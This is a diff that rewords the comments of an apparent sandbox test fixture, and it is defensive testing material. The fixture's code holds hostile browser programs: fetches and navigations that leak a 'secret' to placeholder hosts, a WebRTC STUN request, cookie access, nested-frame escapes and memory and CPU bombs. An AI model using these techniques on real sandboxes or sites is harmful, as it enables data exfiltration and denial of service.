@@ -1,9 +1,9 @@
 /**
- * What a hostile program tries, one by one. Each attempt prints `name: refused` or `name: ALLOWED`, so that a test can
- * say which one got through. `SITE`, `ELSEWHERE` and `STUN` stand for addresses that the test's servers listen on.
+ * The attacks of a hostile program, one by one. Each attempt prints `name: refused` or `name: ALLOWED`, so that a test
+ * can report which one succeeded. `SITE`, `ELSEWHERE` and `STUN` stand for addresses that the test's servers listen on.
  */
 
-/** Shared by both kinds of sandbox: how an attempt is told. */
+/** Code shared by both kinds of sandbox: makes an attempt and reports its result. */
 const TELL = `
 const told = [];
 async function attempt(name, tried) {
@@ -21,7 +21,7 @@ const opened = (target, good) => new Promise((resolve, reject) => {
 });
 `;
 
-/** Reaching out, from wherever a program runs. */
+/** Attempts to reach the network, from any kind of sandbox. */
 const NETWORK = `
 for (const address of ['SITE', 'ELSEWHERE']) {
   await attempt('fetch ' + address, async () => (await fetch(address + 'fetch', { mode: 'no-cors' })).type);
@@ -70,7 +70,10 @@ await attempt('BroadcastChannel', () => new Promise((resolve, reject) => {
 console.log('all attempted');
 `;
 
-/** Frames inside the frame, each of which says so when its script runs: it would have the removed constructors again. */
+/**
+ * Attempts to create frames inside the frame. Each reports if its script runs, because it would have the removed
+ * constructors again.
+ */
 const CHILDREN = `
 const SCRIPT = '<script>parent.postMessage("child ran " + typeof RTCPeerConnection, "*")</' + 'script>';
 const ran = (make, root = document.body) => new Promise((resolve, reject) => {
@@ -108,12 +111,12 @@ await attempt('child past replaced methods', () => ran(() => {
 console.log('all attempted');
 `;
 
-/** For the `html` runtime: a page of its own, for it replaces what others need. */
+/** For the `html` runtime. On a separate page, because it replaces things that other attacks need. */
 export const CHILD_ATTACK = `<p>attack</p><iframe srcdoc="<script>parent.postMessage('from the start', '*')</script>"></iframe>
 <script type="module">addEventListener('message', ({ data }) => { if (data === 'from the start') console.log('child from the start: ALLOWED'); });
 ${TELL}${CHILDREN}</script>`;
 
-/** Ways in which a frame can lead itself elsewhere, and take something along in the address. */
+/** Ways for a frame to navigate away and leak data in the address. */
 export const DEPARTURES: { name: string; code: string }[] = [
   { name: 'location.href', code: `<script>location.href = 'TARGET?secret';</script>` },
   { name: 'location.replace', code: `<script>location.replace('TARGET?secret');</script>` },
@@ -148,10 +151,10 @@ export const DEPARTURES: { name: string; code: string }[] = [
   },
 ];
 
-/** A question to the server of `STUN`, in one expression. */
+/** A single expression that sends a request to the server of `STUN`. */
 export const RTC = `(async (c) => { c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); })(new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }))`;
 
-/** One call each that asks for more than a program may have; each must be refused before it is made. */
+/** Single calls that request more than a program is allowed; each must be refused in advance. */
 export const LARGE = `<p>large</p><script>
 const much = 1e9;
 const memory = new WebAssembly.Memory({ initial: 1 });
@@ -181,7 +184,7 @@ for (const [name, attempt] of Object.entries(attempts)) {
 }
 </script>`;
 
-/** For the `html` runtime, in the frame itself; last of all it tries to turn its own frame into another site. */
+/** For the `html` runtime, in the frame itself. Finally, it tries to navigate its own frame to another site. */
 export const FRAME_ATTACK = `<p>attack</p><script type="module">${TELL}${NETWORK}
 await attempt('cookie', () => document.cookie || 'readable');
 await attempt('set cookie', () => { document.cookie = 'a=b'; return 'set'; });
@@ -222,7 +225,7 @@ console.log('all attempted');
 setTimeout(() => { location.href = 'ELSEWHEREself'; }, 200);
 </script>`;
 
-/** Programs that try to keep the page busy, or the machine; each must be ended, with this word from the session. */
+/** Programs that try to keep the page or the machine busy. Each must be stopped, with this message from the session. */
 export const BOMBS: { name: string; runtime: 'js' | 'html'; code: string; ends: RegExp }[] = [
   { name: 'an endless loop in a worker', runtime: 'js', code: 'for (;;);', ends: /timeout/ },
   {
@@ -295,10 +298,13 @@ export const BOMBS: { name: string; runtime: 'js' | 'html'; code: string; ends: 
 
 const OVER = /used more than 256 MB of memory/;
 
-/** On a busy machine a task's time is over before the memory is full, or the pulse is first; each ends it. */
+/**
+ * On a busy machine, the time limit of a task or the check for unresponsive frames may come before the memory limit;
+ * each stops the program.
+ */
 const OVER_OR_LATE = /used more than 256 MB of memory|\bmemory$|the loop did not end|called without end/;
 
-/** Programs in a frame that fill the memory; also tried where the frame has no process of its own, as on phones. */
+/** Programs that fill the memory of a frame; also tried where the frame shares the page's process, as on phones. */
 export const MEMORY_BOMBS: typeof BOMBS = [
   ['large arrays', 'for (;;) all.push(new Array(1e5).fill(Math.random()));'],
   ['huge arrays', 'for (;;) all.push(new Array(1e7).fill(Math.random()));'],
@@ -340,10 +346,10 @@ export const MEMORY_BOMBS: typeof BOMBS = [
     },
   ]);
 
-/** What a program in a worker is told, or why it is ended where it goes on. */
+/** The error that a program in a worker gets, or the reason for stopping it if it continues. */
 const TOLD = /RangeError: the program used more than 256 MB of memory|^memory$/m;
 
-/** Programs that fill the memory of a worker, where nothing tells how much it uses. */
+/** Programs that fill the memory of a worker, in which memory use can't be measured. */
 export const WORKER_MEMORY_BOMBS = (
   [
     ['large arrays', 'js', 'for (;;) all.push(new Array(1e6).fill(1));'],
@@ -383,7 +389,7 @@ export const WORKER_MEMORY_BOMBS = (
   ends: TOLD,
 }));
 
-/** Runtimes in WebAssembly, which get no more memory than their limit, and files (with SQL: tables) up to another one. */
+/** WebAssembly runtimes, which have one limit for memory, and another one for files (or tables, for SQL). */
 export const WASM_MEMORY_BOMBS = (
   [
     ['lists in Python', 'python', 'a = []\nwhile True:\n    a.append([0] * 10**6)', /^MemoryError/m],
